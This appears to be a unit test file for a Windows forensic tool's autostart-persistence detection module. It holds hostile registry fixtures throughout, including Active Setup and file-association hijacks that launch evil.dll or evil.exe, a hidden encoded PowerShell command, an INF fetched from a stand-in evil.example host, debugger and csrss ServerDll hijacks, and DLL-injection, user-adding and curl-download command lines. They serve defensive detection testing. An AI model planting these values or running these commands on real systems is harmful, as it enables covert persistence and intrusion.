// What Windows itself writes at an autostart location is no finding; nothing that only begins like
// it, or carries another program with it, is taken for it.
#include <gtest/gtest.h>

#include "tests/modules/persistence_cases.h"

namespace hozen {
namespace {

constexpr std::string_view kSoftware = "HKLM\\SOFTWARE\\";
constexpr std::string_view kNt = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\";
constexpr std::string_view kControl = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\";
constexpr std::string_view kActiveSetup =
    "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{11111111-0000-0000-0000-"
    "000000000001}";
constexpr std::string_view kClasses = "HKLM\\SOFTWARE\\Classes\\";
constexpr std::string_view kExplorer =
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\";

std::string in(std::string_view root, std::string_view key) {
  return std::string{root} + std::string{key};
}

fake::FakeWindows machine() {
  fake::FakeWindows windows;
  windows.user("alice");
  for (const auto* path :
       {"C:\\Users\\Public\\evil.exe", "C:\\Users\\Public\\evil.dll",
        "C:\\Windows\\System32\\mmc.exe", "C:\\Windows\\System32\\csrss.exe",
        "C:\\Windows\\System32\\iedkcs32.dll", "C:\\Windows\\System32\\mscories.dll",
        "C:\\Windows\\System32\\sdclt.exe", "C:\\Windows\\System32\\cleanmgr.exe",
        "C:\\Windows\\System32\\CompatTelRunner.exe", "C:\\Windows\\System32\\ntvdm.exe",
        "C:\\Windows\\System32\\vsjitdebugger.exe", "C:\\Windows\\System32\\Magnify.exe",
        "C:\\Windows\\System32\\mshtml.dll", "C:\\Windows\\System32\\SampleProvider.dll",
        "C:\\Windows\\SysWOW64\\wscript.exe"})
    windows.program(path);
  return windows;
}

struct Value {
  std::string key;
  const char* name;
  fake::Data data;
};

struct Foreign {
  Value value;
  Severity severity;
  const char* target = "";  ///< that must be preserved; "" when the value leads to no file
};

constexpr const char* kEvil = "C:\\Users\\Public\\evil.exe";
constexpr const char* kEvilDll = "C:\\Users\\Public\\evil.dll";

std::vector<Foreign> foreign_values() {
  using fake::sz;
  return {
      {{std::string{kActiveSetup}, "StubPath",
        sz("C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\evil.dll,Go")},
       Severity::high,
       kEvilDll},
      {{std::string{kActiveSetup}, "StubPath",
        fake::expand_sz("%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w "
                        "hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=")},
       Severity::medium},
      {{std::string{kActiveSetup}, "StubPath",
        sz("rundll32.exe advpack.dll,LaunchINFSection http://evil.example/x.inf,DefaultInstall")},
       Severity::medium},
      {{in(kClasses, "exefile\\shell\\open\\command"), "",
        sz("C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\evil.exe \"%1\" %*")},
       Severity::medium,
       kEvil},
      {{in(kClasses, "exefile\\shell\\open\\command"), "",
        sz("C:\\Users\\Public\\evil.exe \"%1\" %*")},
       Severity::medium,
       kEvil},
      {{in(kClasses, "jsfile\\shell\\open\\command"), "",
        sz("C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\evil.dll,x")},
       Severity::low,
       kEvilDll},
      {{in(kExplorer, "MyComputer\\BackupPath"), "",
        sz("C:\\Windows\\system32\\cmd.exe /c C:\\Users\\Public\\evil.exe")},
       Severity::medium,
       kEvil},
      {{in(kNt, "AeDebug"), "Debugger", sz("vsjitdebugger.exe & C:\\Users\\Public\\evil.exe")},
       Severity::low},
      {{in(kNt, "AeDebug"), "Debugger",
        sz("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -c dir")},
       Severity::medium},
      {{in(kNt, "AeDebug"), "Debugger", sz("C:\\Windows\\System32\\cmd.exe")}, Severity::low},
      {{in(kNt, "AeDebug"), "Debugger",
        sz("C:\\Windows\\System32\\Magnify.exe /x C:\\Users\\Public\\evil.exe")},
       Severity::low},
      {{in(kNt, "Winlogon\\AlternateShells\\AvailableShells"), "60000",
        sz("cmd.exe /c C:\\Users\\Public\\evil.exe runonce.exe /AlternateShellStartup")},
       Severity::medium,
       kEvil},
      {{in(kControl, "Session Manager"), "BootExecute",
        fake::multi_sz({"autocheck autochk *", "autocheck autochk_evil *"})},
       Severity::medium},
      {{in(kControl, "Session Manager\\SubSystems"), "Windows",
        fake::expand_sz("%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows "
                        "ServerDll=evil,1 ServerDll=basesrv,1")},
       Severity::medium},
      {{in(kControl, "Nls\\ExtendedLocale"), "en-US", sz("evil-nls.dll")}, Severity::low},
      {{in(kControl, "Nls\\ExtendedLocale"), "en-US", sz("evl")}, Severity::low},
      {{in(kControl, "WOW"), "cmdline", sz("C:\\Windows\\system32\\ntvdm.exe_evil.exe")},
       Severity::medium},
      {{in(kClasses, "CLSID\\{AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE}\\ScriptletURL"), "",
        sz("file://C:\\Windows\\system32\\evil.sct")},
       Severity::medium},
      {{in(kNt, "AppCompatFlags\\TelemetryController\\x"), "Command",
        sz("-m:C:\\Users\\Public\\evil.dll -f:Go")},
       Severity::medium},
      {{in(kNt, "AppCompatFlags\\TelemetryController\\x"), "Command", sz("-m:evil.dll -f:Go")},
       Severity::medium},
      {{in(kNt, "Accessibility\\ATs\\x"), "StartExe", sz("C:\\Windows\\System32\\cmd.exe")},
       Severity::low},
      {{"HKU\\alice\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox", "Security",
        sz("http://evil.example/x")},
       Severity::low},
      {{in(kSoftware, "Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}"), "",
        sz("x")},
       Severity::low},
  };
}

TEST(AutostartDefaults, NothingForeignIsTakenForADefault) {
  for (const auto& [value, severity, target] : foreign_values()) {
    fake::FakeWindows windows = machine();
    // The class of the AMSI provider leads elsewhere than Windows' own does.
    windows.value(in(kClasses, "CLSID\\{2781761E-28E0-4109-99FE-B9D127C57AFE}\\InprocServer32"), "",
                  fake::sz("C:\\Program Files\\Vendor\\amsi.dll"));
    windows.value(value.key, value.name, value.data);
    const ModuleRun run = run_module(modules::autostarts, windows);
    const std::string what = value.key + "\\" + value.name;
    const Finding* found = nullptr;
    for (const auto& finding : run.context->findings)
      if (finding.subject.starts_with(value.key.substr(value.key.find_last_of('\\'))) ||
          finding.subject.find(value.key.substr(value.key.find_last_of('\\'))) != std::string::npos)
        found = &finding;
    ASSERT_NE(found, nullptr) << what << "\n" << fake::summary_of(run.context->findings);
    EXPECT_EQ(to_text(severity_of(*found)), to_text(severity))
        << what << " " << fake::summary_of(run.context->findings);
    EXPECT_TRUE(*target == '\0' || run.context->has_collected(target)) << what;
  }
}

std::vector<Value> default_values() {
  using fake::expand_sz;
  using fake::sz;
  const std::string csrss =
      "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 "
      "Windows=On SubSystemType=Windows ServerDll=basesrv,1 "
      "ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off "
      "MaxRequestThreads=16";
  std::vector<Value> values{
      {in(kNt, "Winlogon"), "Shell", sz("explorer.exe")},
      {in(kNt, "Winlogon"), "Shell", sz("Explorer.EXE")},
      {in(kNt, "Winlogon"), "Userinit", sz("C:\\Windows\\system32\\userinit.exe,")},
      {in(kNt, "Winlogon"), "VmApplet", sz("SystemPropertiesPerformance.exe /pagefile")},
      {in(kNt, "Winlogon\\AlternateShells\\AvailableShells"), "30000",
       sz("cmd.exe /c \"cd /d \"%USERPROFILE%\" & start cmd.exe /k runonce.exe "
          "/AlternateShellStartup\"")},
      {in(kNt, "Windows"), "IconServiceLib", sz("IconCodecService.dll")},
      {in(kNt, "AeDebug"), "Debugger",
       sz("\"C:\\Windows\\system32\\vsjitdebugger.exe\" -p %ld -e %ld")},
      {in(kNt, "AeDebug"), "Debugger", sz("drwtsn32 -p %ld -e %ld -g")},
      {in(kNt, "AppCompatFlags\\TelemetryController\\Appraiser"), "Command",
       sz("%windir%\\system32\\CompatTelRunner.exe -m:appraiser.dll "
          "-f:DoScheduledTelemetryRun")},
      {in(kNt, "AppCompatFlags\\TelemetryController\\InvAgent"), "Command",
       sz("-m:invagent.dll -f:RunUpdateW")},
      {in(kNt, "Accessibility\\ATs\\magnifierpane"), "StartExe",
       expand_sz("%SystemRoot%\\System32\\Magnify.exe")},
      {in(kSoftware, "Microsoft\\Wow64\\x86"), "", sz("wow64cpu.dll")},
      {in(kExplorer, "MyComputer\\BackupPath"), "", expand_sz("%SystemRoot%\\system32\\sdclt.exe")},
      {in(kExplorer, "MyComputer\\CleanupPath"), "",
       expand_sz("%SystemRoot%\\System32\\cleanmgr.exe /D %c")},
      {in(kClasses, "CLSID\\{52A2AAAE-085D-4187-97EA-8C30DB990436}\\InprocServer32"), "",
       sz("C:\\Windows\\System32\\hhctrl.ocx")},
      {in(kControl, "Session Manager"), "BootExecute", fake::multi_sz({"autocheck autochk *"})},
      {in(kControl, "Session Manager"), "BootExecute",
       fake::multi_sz({"autocheck autochk /q /v *"})},
      {in(kControl, "Session Manager"), "BootExecute",
       fake::multi_sz({"autocheck autochk /r \\??\\D:", "autocheck autochk *"})},
      {in(kControl, "Session Manager\\SubSystems"), "Windows", expand_sz(csrss)},
      {in(kControl, "Session Manager\\SubSystems"), "Required",
       fake::multi_sz({"Debug", "Windows"})},
      {in(kControl, "Lsa"), "Authentication Packages", fake::multi_sz({"msv1_0"})},
      {in(kControl, "Lsa"), "Security Packages",
       fake::multi_sz({"kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u"})},
      {in(kControl, "Lsa"), "Notification Packages", fake::multi_sz({"scecli", "rassfm"})},
      {in(kControl, "SecurityProviders"), "SecurityProviders", sz("credssp.dll")},
      {in(kControl, "Print\\Environments\\Windows x64\\Print Processors\\winprint"), "Driver",
       sz("winprint.dll")},
      {in(kControl, "Print\\Monitors\\IppMon"), "Driver", sz("IPPMon.dll")},
      {in(kControl, "Print\\Providers\\x"), "Name", sz("win32spl.dll")},
      {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\NtpClient", "DllName",
       expand_sz("%systemroot%\\system32\\w32time.dll")},
      {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinSock2\\Parameters", "AutodialDLL",
       sz("C:\\Windows\\System32\\rasadhlp.dll")},
      {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\TermService\\Parameters", "ServiceDll",
       expand_sz("%SystemRoot%\\System32\\termsrv.dll")},
      {in(kControl, "Terminal Server\\Wds\\rdpwd"), "StartupPrograms", sz("rdpclip")},
      {in(kControl, "SafeBoot"), "AlternateShell", sz("cmd.exe")},
      {std::string{kControl.substr(0, kControl.size() - 1)}, "ServiceControlManagerExtension",
       expand_sz("%systemroot%\\system32\\scext.dll")},
      {in(kControl, "WOW"), "cmdline", expand_sz("%SystemRoot%\\system32\\ntvdm.exe")},
      {in(kControl, "WOW"), "wowcmdline",
       expand_sz("%SystemRoot%\\system32\\ntvdm.exe -a %SystemRoot%\\system32\\krnl386")},
      {in(kControl, "Nls\\ExtendedLocale"), "qps-ploc", sz("en-US")},
      {in(kControl, "Session Manager\\KnownDLLs"), "DllDirectory",
       expand_sz("%SystemRoot%\\system32")},
      {in(kControl, "Session Manager\\KnownDLLs"), "advapi32", sz("advapi32.dll")},
  };
  for (const auto* stub :
       {"U", "/UserInstall", "regsvr32.exe /s /n /i:U shell32.dll",
        "\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\Windows\\System32\\iedkcs32.dll\","
        "BrandIEActiveSetup SIGNUP",
        "C:\\Windows\\System32\\Rundll32.exe C:\\Windows\\System32\\mscories.dll,Install",
        "%SystemRoot%\\system32\\unregmp2.exe /ShowWMP", "rundll32 iesetup.dll,IEHardenUser",
        "\"%ProgramFiles%\\Windows Mail\\WinMail.exe\" OCInstallUserConfigOE"})
    values.push_back({std::string{kActiveSetup}, "StubPath", expand_sz(stub)});
  const std::pair<const char*, const char*> associations[] = {
      {"exefile\\shell\\open", "\"%1\" %*"},
      {"exefile\\shell\\runas", "\"%1\" %*"},
      {"comfile\\shell\\open", "\"%1\" %*"},
      {"batfile\\shell\\open", "\"%1\" %*"},
      {"batfile\\shell\\runas", "%SystemRoot%\\System32\\cmd.exe /C \"%1\" %*"},
      {"batfile\\shell\\edit", "%SystemRoot%\\System32\\NOTEPAD.EXE %1"},
      {"cmdfile\\shell\\print", "%SystemRoot%\\System32\\NOTEPAD.EXE /p %1"},
      {"scrfile\\shell\\open", "\"%1\" /S"},
      {"scrfile\\shell\\install",
       "%SystemRoot%\\system32\\rundll32.exe desk.cpl,InstallScreenSaver %l"},
      {"htafile\\shell\\open",
       "%SystemRoot%\\SysWOW64\\mshta.exe \"%1\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}%U{1E460BD7-"
       "F1C3-4B2E-88BF-4E770A288AF5} %*"},
      {"mscfile\\shell\\open", "%SystemRoot%\\system32\\mmc.exe \"%1\" %*"},
      {"jsfile\\shell\\open", "%SystemRoot%\\System32\\WScript.exe \"%1\" %*"},
      {"vbsfile\\shell\\open2", "\"%SystemRoot%\\System32\\CScript.exe\" \"%1\" %*"},
      {"regfile\\shell\\open", "regedit.exe \"%1\""},
      {"htmlfile\\shell\\open", "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" %1"},
      {"htmlfile\\shell\\print",
       "\"%systemroot%\\system32\\rundll32.exe\" \"%systemroot%\\system32\\mshtml.dll\",PrintHTML "
       "\"%1\""}};
  for (const auto& [key, command] : associations)
    values.push_back({in(kClasses, key) + "\\command", "", expand_sz(command)});
  return values;
}

TEST(AutostartDefaults, WhatWindowsWritesIsNoFinding) {
  for (const auto& [key, name, data] : default_values()) {
    fake::FakeWindows windows = machine();
    windows.value(key, name, data);
    const ModuleRun run = run_module(modules::autostarts, windows);
    EXPECT_EQ(fake::summary_of(run.context->findings), "") << key << "\\" << name;
  }
}

TEST(AutostartDefaults, AUsersOwnWindowsFolderIsNotTheMachines) {
  fake::FakeWindows windows = machine();
  windows.program("C:\\Users\\Public\\w\\explorer.exe");
  windows.value("HKU\\alice\\Environment", "SystemRoot", fake::sz("C:\\Users\\Public\\w"))
      .value("HKU\\alice\\Environment", "windir", fake::sz("C:\\Users\\Public\\w"))
      .value("HKU\\alice\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell",
             fake::expand_sz("%windir%\\explorer.exe"));
  const ModuleRun run = run_module(modules::autostarts, windows);
  const auto* record = run.context->record({{"location", "winlogon_shell"},
                                            {"value_name", "Shell"},
                                            {"command_line", "%windir%\\explorer.exe"}});
  ASSERT_NE(record, nullptr);
  if ((*record)["target"] == "C:\\Users\\Public\\w\\explorer.exe") {
    EXPECT_EQ((*record)["default_value"], "false");
    EXPECT_NE(run.context->finding("autostarts.winlogon_shell"), nullptr);
  }
}

TEST(AutostartDefaults, ABareDefaultNameThatLeadsElsewhereIsJudged) {
  fake::FakeWindows windows = machine();
  windows.program("C:\\TMP\\p\\usbmon.dll");
  windows
      .value(in(kControl, "Session Manager\\Environment"), "Path",
             fake::expand_sz("%SystemRoot%\\system32;C:\\TMP\\p"))
      .value(in(kControl, "Print\\Monitors\\x"), "Driver", fake::sz("usbmon.dll"));
  const ModuleRun run = run_module(modules::autostarts, windows);
  const auto* record =
      run.context->record({{"location", "print_monitors"}, {"command_line", "usbmon.dll"}});
  ASSERT_NE(record, nullptr);
  EXPECT_EQ((*record)["target"], "C:\\TMP\\p\\usbmon.dll");
  EXPECT_EQ((*record)["default_value"], "false");
  EXPECT_NE(run.context->finding("autostarts.library_elsewhere"), nullptr)
      << fake::summary_of(run.context->findings);
  EXPECT_TRUE(run.context->has_collected("C:\\TMP\\p\\usbmon.dll"));
}

TEST(AutostartDefaults, UsualIsSaidApartFromTheVeryText) {
  fake::FakeWindows windows = machine();
  windows.value(in(kNt, "Winlogon\\GPExtensions\\{1}"), "DllName",
                fake::sz("C:\\Windows\\System32\\SampleProvider.dll"));
  const ModuleRun run = run_module(modules::autostarts, windows);
  const auto* usual = run.context->record({{"location", "gp_extensions"}});
  ASSERT_NE(usual, nullptr);
  EXPECT_EQ((*usual)["default_value"], "false");
  EXPECT_EQ((*usual)["usual_value"], "true");
  EXPECT_NE((*usual)["target_artifact"], "null");
  EXPECT_TRUE(run.context->has_collected("C:\\Windows\\System32\\SampleProvider.dll"));
  const auto* exact = run.context->record({{"location", "winlogon_shell"}});
  ASSERT_NE(exact, nullptr);
  EXPECT_EQ((*exact)["default_value"], "true");
  EXPECT_EQ((*exact)["usual_value"], "true");
}

TEST(AutostartDefaults, AForeignFileInSystem32IsPreservedAndAtKnownPlacesAFinding) {
  const std::string evil = "C:\\Windows\\System32\\evil.dll";
  const Value planted[] = {
      {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinSock2\\Parameters\\NameSpace_Catalog5\\"
       "Catalog_Entries\\000000000001",
       "LibraryPath", fake::sz(evil)},
      {in(kSoftware,
          "Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{1}"),
       "Dll", fake::sz(evil)},
      {in(kControl, "ContentIndex\\Language\\English_US"), "WBDLLPathOverride", fake::sz(evil)},
  };
  for (const auto& [key, name, data] : planted) {
    fake::FakeWindows windows = machine();
    windows.program(evil);
    windows.value(key, name, data);
    const ModuleRun run = run_module(modules::autostarts, windows);
    ASSERT_EQ(run.context->findings.size(), 1u) << key;
    EXPECT_EQ(to_text(severity_of(run.context->findings[0])), to_text(Severity::low)) << key;
    EXPECT_TRUE(run.context->has_collected(evil)) << key;
  }
}

TEST(AutostartDefaults, ArgumentsAreUsualOnlyWhereTheWholeTextIsKnown) {
  for (const char* command :
       {"C:\\Windows\\System32\\ftp.exe -s:C:/Users/Public/x.txt",
        "C:\\Windows\\System32\\mavinject.exe 4 /INJECTRUNNING C:/Users/Public/evil.dll",
        "C:\\Windows\\System32\\net.exe user evil P@ss /add",
        "C:\\Windows\\System32\\curl.exe example.test/x -o x",
        "C:\\Windows\\System32\\cleanmgr.exe /D %c /x"}) {
    fake::FakeWindows windows = machine();
    windows.value(in(kExplorer, "MyComputer\\CleanupPath"), "", fake::sz(command));
    const ModuleRun run = run_module(modules::autostarts, windows);
    const auto* record = run.context->record({{"location", "my_computer_tools"}});
    ASSERT_NE(record, nullptr) << command;
    EXPECT_EQ((*record)["usual_value"], "false") << command;
    EXPECT_EQ(run.context->findings.size(), 1u) << command;
  }
}

}  // namespace
}  // namespace hozen
